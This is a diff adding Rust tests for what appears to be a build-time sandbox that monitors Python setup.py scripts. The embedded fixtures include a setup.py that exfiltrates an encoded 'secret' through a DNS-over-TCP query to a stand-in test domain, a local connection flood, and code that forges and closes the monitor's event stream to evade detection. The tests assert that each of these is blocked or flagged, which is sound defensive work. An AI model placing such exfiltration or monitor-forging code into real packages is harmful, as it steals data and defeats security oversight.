@@ -530,3 +530,102 @@ open('/tmp/scratch.txt', 'w').write('ok')
         .collect();
     assert!(bad.is_empty(), "benign build has findings: {bad:#?}");
 }
+
+#[test]
+fn dns_over_tcp_is_decoded_too() {
+    if !ready() {
+        return;
+    }
+    let body = r#"import struct
+q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)
+for label in 'c2VjcmV0.tcp-exfil.sdist-box.test'.split('.'):
+    q += bytes([len(label)]) + label.encode()
+q += b'\x00' + struct.pack('>HH', 16, 1)
+try:
+    s = socket.create_connection(('127.0.0.53', 53), timeout=2)
+    s.sendall(struct.pack('>H', len(q)) + q)
+except OSError as e:
+    print('tcp dns failed', e)
+"#;
+    let setup = setup_py(body);
+    let case = run_case("fx-tcpdns", &[("setup.py", &setup)], None);
+    let dns = case.find("dns", "c2VjcmV0.tcp-exfil.sdist-box.test");
+    assert_eq!(dns["verdict"], "blocked");
+    // `socket.send*` raises no audit event; the connect that opened the
+    // stream is the line the hook saw.
+    case.assert_origin(
+        dns,
+        "setup.py",
+        line_of(&setup, "create_connection"),
+        "create_connection",
+    );
+}
+
+#[test]
+fn a_connect_flood_is_survived_and_bounded() {
+    if !ready() {
+        return;
+    }
+    let listener = Listener::start();
+    let body = format!(
+        r#"import time
+# Flood once (setup.py runs in each of the build's hook calls).
+n = 30000 if os.path.exists('flood.done') else 0
+open('flood.done', 'w').close()
+t = time.monotonic()
+while n < 12000:
+    s = socket.socket()
+    try:
+        s.connect(('127.0.0.1', {port}))
+    except OSError:
+        pass
+    s.close()
+    n += 1
+print('FLOOD done', n, round(time.monotonic() - t, 2))
+"#,
+        port = listener.port
+    );
+    let setup = setup_py(&body);
+    let case = run_case("fx-flood", &[("setup.py", &setup)], None);
+    assert!(case.log.contains("FLOOD done"), "{}", case.describe);
+    assert_eq!(
+        case.report["outcome"]["status"], "built",
+        "{}",
+        case.describe
+    );
+    assert_eq!(listener.connections(), 0);
+    let streams = &case.report["streams"];
+    assert!(
+        streams["kernel_notifications"].as_u64().unwrap() >= 12000,
+        "{streams}"
+    );
+    assert!(
+        streams["kernel_dropped"].as_u64().unwrap() > 0,
+        "the flood guard never engaged: {streams}"
+    );
+    let f = case.find("net-connect", &format!("127.0.0.1:{}", listener.port));
+    assert!(f["count"].as_u64().unwrap() >= 1000, "{f:#}");
+    assert!(case.report["kernel_events"].as_array().unwrap().len() <= 2000);
+}
+
+#[test]
+fn a_forged_or_closed_event_stream_is_an_evasion() {
+    if !ready() {
+        return;
+    }
+    let body = r#"os.write(3, b'{"v":1,"pid":999,"ppid":1,"t":1,"seq":5,"ev":"socket.connect","args":[],"origin":"/build/src/innocent.py:1","stack":[]}\n')
+os.write(3, b'this is not a line the hook writes\n')
+os.close(3)
+"#;
+    let setup = setup_py(body);
+    let case = run_case("fx-forge", &[("setup.py", &setup)], None);
+    let tampered: Vec<&Value> = case
+        .findings()
+        .iter()
+        .filter(|f| f["kind"] == "stream-tampered")
+        .collect();
+    assert!(tampered.len() >= 2, "{:#?}", case.findings());
+    assert!(tampered.iter().all(|f| f["severity"] == "evasion"));
+    assert_eq!(case.findings()[0]["severity"], "evasion");
+    assert_eq!(case.code, 1);
+}
